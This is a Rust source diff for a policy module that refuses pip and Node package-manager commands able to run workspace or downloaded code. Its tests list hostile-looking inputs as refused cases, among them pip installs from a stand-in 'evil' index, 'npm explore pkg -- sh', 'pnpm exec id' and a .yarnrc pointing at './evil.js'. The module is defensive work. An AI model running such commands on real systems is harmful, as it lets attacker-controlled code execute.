@@ -1,0 +1,469 @@
+//! Package managers, which run code the workspace holds: `pip install .` builds a local project
+//! (its `setup.py` or build backend runs), and so does a requirements file, an editable, VCS,
+//! URL or archive requirement; `npm`, `yarn` and `pnpm` run `package.json` scripts and install
+//! scripts for most subcommands (`yarn build` is `yarn run build`); `npx`, `pnpx` and `bunx`
+//! run a package's program (`node_modules/.bin`, which the workspace can write, or a
+//! download); a `.yarnrc` naming `yarn-path` or plugins makes every `yarn` command run that
+//! JavaScript. An allowlisted package manager passes only in forms that run none of these:
+//! listing and querying, and `pip install` of requirements named for the index.
+
+use std::path::Path;
+
+use super::injection::Place;
+
+/// pip subcommands that build or install distributions.
+const PIP_BUILDING: &[&str] = &["install", "wheel", "download", "lock"];
+
+/// pip subcommands that read configuration only (`pip config edit` opens an editor, `set`
+/// points later installs at another source).
+const PIP_CONFIG_READING: &[&str] = &["list", "get", "debug"];
+
+/// pip's long options whose value is a source to build from (a requirements, constraints or
+/// dependency-group file, an editable project, an index or a directory of archives). optparse
+/// takes any unambiguous prefix (`--edit`, `--req=r.txt`), so any prefix of one is refused.
+const PIP_SOURCE_OPTIONS: &[&str] = &[
+    "editable",
+    "requirement",
+    "constraint",
+    "build-constraint",
+    "group",
+    "find-links",
+    "index-url",
+    "extra-index-url",
+    "src",
+];
+
+/// The short forms of those options (`-e`, `-r`, `-c`, `-f`, `-i`), also inside a cluster.
+const PIP_SOURCE_SHORT: &str = "ercfi";
+
+/// Requirement prefixes naming a version control checkout (`git+https://...`).
+const VCS_PREFIXES: &[&str] = &["git+", "hg+", "svn+", "bzr+"];
+
+/// File names pip builds or installs as a local archive.
+const ARCHIVE_SUFFIXES: &[&str] = &[
+    ".zip", ".tar", ".tar.gz", ".tgz", ".tar.bz2", ".tbz", ".tar.xz", ".txz", ".tar.lz", ".whl",
+    ".egg",
+];
+
+/// Why the requirement `arg` of a building pip subcommand is not a plain name for the index:
+/// a URL, a VCS checkout, a direct reference (`name @ url`), a path, an archive, or a name an
+/// existing file or directory in `cwd` has (pip installs it as a local project).
+fn local_source(arg: &str, cwd: Option<&Path>) -> Option<&'static str> {
+    let lower = arg.to_ascii_lowercase();
+    if VCS_PREFIXES.iter().any(|p| lower.starts_with(p)) {
+        return Some("is a version control checkout: pip builds it (its setup code runs)");
+    }
+    if lower.contains("://") || lower.starts_with("file:") {
+        return Some("is a URL: pip builds what it fetches");
+    }
+    if arg.contains('@') {
+        return Some("is a direct reference (`name @ url`): pip builds what it names");
+    }
+    if arg.contains('/') || arg.starts_with('.') || arg.starts_with('~') {
+        return Some("is a local path: pip builds the project there (its setup code runs)");
+    }
+    if ARCHIVE_SUFFIXES.iter().any(|s| lower.ends_with(s)) {
+        return Some("is an archive: pip builds or installs it from the workspace");
+    }
+    match cwd {
+        None => Some("may name a local project and the working directory is unknown"),
+        Some(dir) if std::fs::symlink_metadata(dir.join(arg)).is_ok() => {
+            Some("names a file or directory of the working directory: pip builds it as a project")
+        }
+        Some(_) => None,
+    }
+}
+
+/// Refuses pip forms that run code the workspace holds or choose where code comes from:
+/// `pip config` other than reading it, and in a building subcommand ([`PIP_BUILDING`]) a
+/// [source option](PIP_SOURCE_OPTIONS) in any spelling or a requirement that is no plain name
+/// ([`local_source`]). Options are read before `--` wherever they stand (pip permutes).
+pub fn check_pip(args: &[String], cwd: Option<&Path>) -> Result<(), String> {
+    let refuse = |arg: &str, why: &str| Err(format!("argument injection: `pip` `{arg}` {why}"));
+    let has = |words: &[&str]| args.iter().any(|a| words.contains(&a.as_str()));
+    if has(&["config"]) && !has(PIP_CONFIG_READING) {
+        return refuse("config", "changes pip's configuration or opens an editor");
+    }
+    if !has(PIP_BUILDING) {
+        return Ok(());
+    }
+    let mut options_done = false;
+    for arg in args {
+        if !options_done && arg == "--" {
+            options_done = true;
+        } else if !options_done && arg.starts_with("--") {
+            let name = arg[2..].split('=').next().unwrap_or_default();
+            if !name.is_empty() && PIP_SOURCE_OPTIONS.iter().any(|o| o.starts_with(name)) {
+                return refuse(arg, "names a source to build from (its setup code runs)");
+            }
+        } else if !options_done && arg.len() > 1 && arg.starts_with('-') {
+            if arg[1..].chars().any(|c| PIP_SOURCE_SHORT.contains(c)) {
+                return refuse(arg, "names a source to build from (its setup code runs)");
+            }
+        } else if !PIP_BUILDING.contains(&arg.as_str()) {
+            if let Some(why) = local_source(arg, cwd) {
+                return refuse(arg, why);
+            }
+        }
+    }
+    Ok(())
+}
+
+/// Subcommands of each Node package manager that run no `package.json` script, no install
+/// script and no configured program: listing, querying and auditing. Every other one, a
+/// script's name (`yarn build`) and no subcommand at all (`yarn` installs) runs scripts.
+const SCRIPTLESS: &[(&str, &[&str])] = &[
+    (
+        "npm",
+        &[
+            "ls",
+            "list",
+            "la",
+            "ll",
+            "view",
+            "v",
+            "info",
+            "show",
+            "outdated",
+            "search",
+            "s",
+            "se",
+            "find",
+            "why",
+            "explain",
+            "audit",
+            "fund",
+            "root",
+            "prefix",
+            "whoami",
+            "ping",
+            "query",
+            "sbom",
+            "help-search",
+            "get",
+            "config",
+            "pkg",
+        ],
+    ),
+    (
+        "pnpm",
+        &[
+            "list", "ls", "ll", "la", "why", "outdated", "audit", "licenses", "root", "view",
+            "info", "show", "config",
+        ],
+    ),
+    (
+        "yarn",
+        &["info", "list", "why", "outdated", "licenses", "config"],
+    ),
+];
+
+/// Words that turn a scriptless subcommand into one that installs, edits or writes
+/// (`npm audit fix`, `pnpm audit --fix`, `npm config edit`, `npm pkg set`).
+const WRITING_WORDS: &[&str] = &["fix", "--fix", "edit", "set", "delete", "unset", "add"];
+
+/// Options the managers read before the subcommand that take no value; any other option there
+/// must carry its value after `=`, or the next word could be its value (`npm --prefix ls
+/// install` installs).
+const VALUELESS_OPTIONS: &[&str] = &[
+    "-s",
+    "--silent",
+    "-q",
+    "--quiet",
+    "-g",
+    "--global",
+    "--json",
+    "-l",
+    "--long",
+    "-p",
+    "--parseable",
+    "-a",
+    "--all",
+    "-r",
+    "--recursive",
+    "--no-color",
+    "-v",
+    "--version",
+    "-h",
+    "--help",
+    "--offline",
+];
+
+/// Configuration files a manager reads from the working directory and every directory above
+/// it, and the keys there that make every command run a program: a `yarn-path`/`yarnPath`
+/// release or `plugins` (yarn), an `onload-script` (npm before 7).
+const RC_FILES: &[(&str, &[&str], &[&str])] = &[
+    (
+        "yarn",
+        &[".yarnrc", ".yarnrc.yml"],
+        &["yarn-path", "yarnpath", "plugins"],
+    ),
+    ("npm", &[".npmrc"], &["onload-script"]),
+];
+
+/// The most bytes of a configuration file read; a longer one is refused unread.
+const MAX_RC_BYTES: u64 = 1024 * 1024;
+
+/// Why a configuration file in `cwd` or above it makes every command of `name` run a program.
+fn rc_runs_code(name: &str, cwd: Option<&Path>) -> Option<String> {
+    let (_, files, keys) = RC_FILES.iter().find(|(n, _, _)| *n == name)?;
+    let Some(cwd) = cwd else {
+        return Some(format!(
+            "`{name}` reads its configuration from the working directory, which is unknown"
+        ));
+    };
+    for dir in cwd.ancestors() {
+        for file in *files {
+            let path = dir.join(file);
+            let Ok(meta) = std::fs::metadata(&path) else {
+                continue;
+            };
+            if meta.len() > MAX_RC_BYTES {
+                return Some(format!(
+                    "`{}` is over {MAX_RC_BYTES} bytes and cannot be checked",
+                    path.display()
+                ));
+            }
+            let text = std::fs::read(&path).unwrap_or_default();
+            let text = String::from_utf8_lossy(&text).to_ascii_lowercase();
+            if let Some(key) = keys.iter().find(|k| text.contains(*k)) {
+                return Some(format!(
+                    "`{}` sets `{key}`, which makes every `{name}` command run that program",
+                    path.display()
+                ));
+            }
+        }
+    }
+    None
+}
+
+/// Refuses a Node package manager's form that runs code: `npx`, `pnpx` and `bunx` always
+/// (they run a package's program) except for `--version`/`--help`; for `npm`, `pnpm` and
+/// `yarn`, a subcommand outside [`SCRIPTLESS`] (or none, for yarn), a [writing
+/// word](WRITING_WORDS) after it, an option before it that may take the next word, and a
+/// configuration file that runs a program for every command ([`RC_FILES`]).
+pub fn check_node_package_manager(name: &str, args: &[String], place: Place) -> Result<(), String> {
+    let refuse = |why: String| Err(format!("argument injection: {why}"));
+    let only_info = !args.is_empty()
+        && args
+            .iter()
+            .all(|a| matches!(a.as_str(), "-v" | "--version" | "-h" | "--help"));
+    if matches!(name, "npx" | "pnpx" | "bunx") {
+        if only_info {
+            return Ok(());
+        }
+        return refuse(format!(
+            "`{name}` runs a package's program (from node_modules/.bin, which the workspace can write, or downloaded)"
+        ));
+    }
+    if let Some(why) = rc_runs_code(name, place.cwd) {
+        return refuse(why);
+    }
+    let Some((_, scriptless)) = SCRIPTLESS.iter().find(|(n, _)| *n == name) else {
+        return Ok(());
+    };
+    let Some(at) = args.iter().position(|a| !a.starts_with('-')) else {
+        if name == "yarn" && !only_info {
+            return refuse("`yarn` without a subcommand installs, running install scripts".into());
+        }
+        return Ok(());
+    };
+    if let Some(option) = args[..at]
+        .iter()
+        .find(|a| !a.contains('=') && !VALUELESS_OPTIONS.contains(&a.as_str()))
+    {
+        return refuse(format!(
+            "`{name} {option}` before the subcommand may take the next word as its value (write `{option}=value`)"
+        ));
+    }
+    let sub = args[at].as_str();
+    if !scriptless.contains(&sub) {
+        return refuse(format!(
+            "`{name} {sub}` may run package.json scripts or install scripts (code the workspace can write)"
+        ));
+    }
+    if let Some(word) = args[at + 1..]
+        .iter()
+        .find(|a| WRITING_WORDS.contains(&a.as_str()) || a.starts_with("--fix="))
+    {
+        return refuse(format!(
+            "`{name} {sub} {word}` installs, edits or writes (it may run scripts or an editor)"
+        ));
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::policy::shell::tests::{argv, Sandbox};
+
+    #[test]
+    fn pip_builds_nothing_the_workspace_holds() {
+        let sandbox = Sandbox::new("pip");
+        let ws = sandbox.dir("ws");
+        sandbox.dir("ws/mypkg");
+        sandbox.file("ws/requirements.txt", 0o644);
+        let cases: &[(&str, bool)] = &[
+            ("install requests", true),
+            ("install -U requests==2.31.0 'urllib3>=2'", true),
+            ("install --upgrade --user requests[socks]", true),
+            ("-q install requests", true),
+            ("list", true),
+            ("list -e", true),
+            ("show requests", true),
+            ("freeze", true),
+            ("config list", true),
+            ("install .", false),
+            ("install ./mypkg", false),
+            ("install mypkg", false),
+            ("install requirements.txt", false),
+            ("install /tmp/x", false),
+            ("install ~/x", false),
+            ("install -e .", false),
+            ("install -Ue .", false),
+            ("install --editable=.", false),
+            ("install --edit .", false),
+            ("install -r requirements.txt", false),
+            ("install -rrequirements.txt", false),
+            ("install --requirement=r.txt", false),
+            ("install --req r.txt", false),
+            ("install -c c.txt requests", false),
+            ("install --group dev", false),
+            ("install git+https://example.com/x.git", false),
+            ("install hg+https://example.com/x", false),
+            ("install https://example.com/x.tar.gz", false),
+            ("install x@https://example.com/x.zip", false),
+            ("install file:///tmp/x", false),
+            ("install x.tar.gz", false),
+            ("install x-1.0-py3-none-any.whl", false),
+            ("install -f dist requests", false),
+            ("install --find-links=dist requests", false),
+            ("install -i http://evil/simple requests", false),
+            ("install --index-url=http://evil/simple requests", false),
+            (
+                "install --extra-index-url http://evil/simple requests",
+                false,
+            ),
+            ("install --extra http://evil/simple requests", false),
+            ("wheel .", false),
+            ("download .", false),
+            ("install -- .", false),
+            ("install requests .", false),
+            ("config edit", false),
+            ("config set global.index-url http://evil", false),
+        ];
+        for (args, want) in cases {
+            let args: Vec<String> = argv(args)
+                .into_iter()
+                .map(|a| a.trim_matches('\'').to_string())
+                .collect();
+            let got = check_pip(&args, Some(&ws));
+            assert_eq!(got.is_ok(), *want, "pip {args:?}: {got:?}");
+        }
+        // Without a working directory a name may be a local project.
+        assert!(check_pip(&argv("install requests"), None).is_err());
+    }
+
+    #[test]
+    fn node_package_managers_run_no_script() {
+        let sandbox = Sandbox::new("node-packages");
+        let ws = sandbox.dir("ws");
+        let place = Place::at(&ws);
+        let cases: &[(&str, &str, bool)] = &[
+            ("npm", "ls", true),
+            ("npm", "ls --all --json", true),
+            ("npm", "--json ls", true),
+            ("npm", "--prefix=sub ls", true),
+            ("npm", "view react version", true),
+            ("npm", "outdated", true),
+            ("npm", "audit", true),
+            ("npm", "config get registry", true),
+            ("npm", "--version", true),
+            ("npm", "", true),
+            ("pnpm", "list --depth=0", true),
+            ("pnpm", "why react", true),
+            ("yarn", "why react", true),
+            ("yarn", "--version", true),
+            ("npx", "--version", true),
+            // Scripts of package.json, install scripts, runners.
+            ("npm", "test", false),
+            ("npm", "t", false),
+            ("npm", "start", false),
+            ("npm", "run build", false),
+            ("npm", "run-script build", false),
+            ("npm", "install", false),
+            ("npm", "i", false),
+            ("npm", "insta", false),
+            ("npm", "ci", false),
+            ("npm", "install --global x", false),
+            ("npm", "rebuild", false),
+            ("npm", "version patch", false),
+            ("npm", "pack", false),
+            ("npm", "publish", false),
+            ("npm", "init vite", false),
+            ("npm", "create vite", false),
+            ("npm", "exec tsc", false),
+            ("npm", "x tsc", false),
+            ("npm", "explore pkg -- sh", false),
+            ("npm", "help install", false),
+            ("npm", "doctor", false),
+            ("npm", "audit fix", false),
+            ("npm", "config edit", false),
+            ("npm", "pkg set scripts.x=id", false),
+            ("npm", "--prefix ls install", false),
+            ("npm", "--prefix dir explore pkg -- sh", false),
+            ("npm", "LS", false),
+            ("pnpm", "install", false),
+            ("pnpm", "build", false),
+            ("pnpm", "run build", false),
+            ("pnpm", "exec id", false),
+            ("pnpm", "dlx x", false),
+            ("pnpm", "--dir x exec id", false),
+            ("pnpm", "audit --fix", false),
+            ("yarn", "", false),
+            ("yarn", "--silent", false),
+            ("yarn", "build", false),
+            ("yarn", "--silent build", false),
+            ("yarn", "--cwd ls build", false),
+            ("yarn", "install", false),
+            ("yarn", "add x", false),
+            ("yarn", "exec id", false),
+            ("yarn", "dlx x", false),
+            ("npx", "tsc", false),
+            ("npx", "-y cowsay", false),
+            ("npx", "", false),
+            ("pnpx", "x", false),
+            ("bunx", "x", false),
+        ];
+        for (name, args, want) in cases {
+            let got = check_node_package_manager(name, &argv(args), place);
+            assert_eq!(got.is_ok(), *want, "{name} {args}: {got:?}");
+        }
+    }
+
+    #[test]
+    fn a_yarnrc_that_runs_code_refuses_every_yarn_command() {
+        let sandbox = Sandbox::new("yarnrc");
+        let ws = sandbox.dir("ws");
+        let sub = sandbox.dir("ws/sub");
+        let place = Place::at(&sub);
+        assert!(check_node_package_manager("yarn", &argv("why x"), place).is_ok());
+        // Seen in Yarn Berry repositories: `.yarnrc.yml` runs the checked-in release.
+        for (file, text) in [
+            (".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n"),
+            (".yarnrc.yml", "plugins:\n  - path: .yarn/plugins/x.cjs\n"),
+            (".yarnrc", "yarn-path \"./evil.js\"\n"),
+        ] {
+            std::fs::write(ws.join(file), text).unwrap();
+            let why = check_node_package_manager("yarn", &argv("why x"), place).unwrap_err();
+            assert!(why.contains(file), "{why}");
+            std::fs::remove_file(ws.join(file)).unwrap();
+        }
+        std::fs::write(ws.join(".yarnrc.yml"), "nodeLinker: node-modules\n").unwrap();
+        assert!(check_node_package_manager("yarn", &argv("why x"), place).is_ok());
+        std::fs::write(ws.join(".npmrc"), "onload-script=./x.js\n").unwrap();
+        assert!(check_node_package_manager("npm", &argv("ls"), place).is_err());
+        assert!(check_node_package_manager("npm", &argv("ls"), Place::default()).is_err());
+    }
+}
